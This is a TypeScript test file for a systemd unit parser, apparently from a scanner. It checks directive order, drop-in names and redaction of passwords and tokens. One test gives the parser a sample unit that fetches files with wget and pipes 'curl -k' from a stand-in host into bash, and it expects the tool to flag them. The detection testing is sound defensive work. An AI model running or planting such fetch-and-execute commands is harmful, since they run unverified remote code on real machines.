import assert from 'node:assert/strict'
import { test } from 'node:test'
import { collect, collectFixture, factsOf, survivesOddInputs } from '../../../../test/support/fixture.ts'
import { reader } from './reader.ts'

const unit = async (name: string) => factsOf(await collectFixture(reader, import.meta.url, name), 'unit')[0]

test('Debian: directives in file order, repeated ones kept', async () => {
  const found = await unit('debian/usr/lib/systemd/system/ssh.service')
  assert.equal(found?.name, 'ssh.service')
  assert.equal(found.line, 10)
  assert.deepEqual(found.directives['Service.ExecStart'], ['/usr/sbin/sshd -D $SSHD_OPTS'])
  assert.deepEqual(found.directives['Service.ExecReload'], ['/usr/sbin/sshd -t', '/bin/kill -HUP $MAINPID'])
  assert.deepEqual(found.directives['Install.WantedBy'], ['multi-user.target'])
})

test('a product\'s unit: continued lines, secrets struck out', async () => {
  const found = await unit('product/etc/systemd/system/uploader.service')
  assert.deepEqual(found?.directives['Service.User'], ['uploader'])
  assert.match(found?.directives['Service.ExecStart']?.[0] ?? '', /^\/opt\/app\/uploader +--server https:\/\/op:\*\*\*@cloud\.example +--token \*\*\*$/)
  assert.deepEqual(found?.directives['Service.Environment'], ['"MQTT_PASSWORD=***" MODE=prod DB_SECRET=***'])
  assert.doesNotMatch(JSON.stringify(found), /hunter|abc 123/)
})

test('a drop-in bears the name of its unit and keeps the empty assignment that resets', async () => {
  const found = await unit('product/etc/systemd/system/getty@tty1.service.d/autologin.conf')
  assert.equal(found?.name, 'getty@tty1.service')
  assert.deepEqual(found.directives['Service.ExecStart'], ['', '-/sbin/agetty --autologin pi --noclear %I $TERM'])
})

test('what a unit fetches and runs is told like that of a script', async () => {
  const run = await collect(reader, '[Service]\nExecStartPre=-/usr/bin/wget -q http://a.example/x -O /run/x\nExecStart=/bin/sh -c \'curl -k https://a.example/y | bash\'\n', '/etc/systemd/system/x.service')
  const [script] = factsOf(run, 'script')
  assert.deepEqual(script?.downloads.map(({ line, scheme, insecure }) => [line, scheme, insecure]), [[2, 'http', false], [3, 'https', true]])
  assert.deepEqual(script.runs, [{ line: 3, what: 'piped into bash' }])
})

test('odd inputs', () => survivesOddInputs(reader, ['/etc/systemd/system/x.service', '/lib/systemd/system/x.timer.d/y.conf']))
